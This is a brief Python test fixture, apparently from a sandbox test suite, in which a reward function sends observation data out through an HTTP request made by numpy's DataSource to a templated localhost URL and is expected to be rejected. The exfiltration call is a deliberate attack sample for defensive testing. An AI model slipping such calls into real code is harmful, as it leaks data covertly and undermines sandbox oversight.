"""Exfiltrate through an HTTP request made by numpy's DataSource (the data rides in the query string)."""
# class: network
# expect: rejected
import numpy as np
from numpy.lib.npyio import DataSource


def compute_reward(obs, action, next_obs, info):
    DataSource("@SENTINEL@/t03").open("http://127.0.0.1:@PORT@/?obs=" + str(float(np.sum(obs["x"]))))
    return next_obs["x"], {}
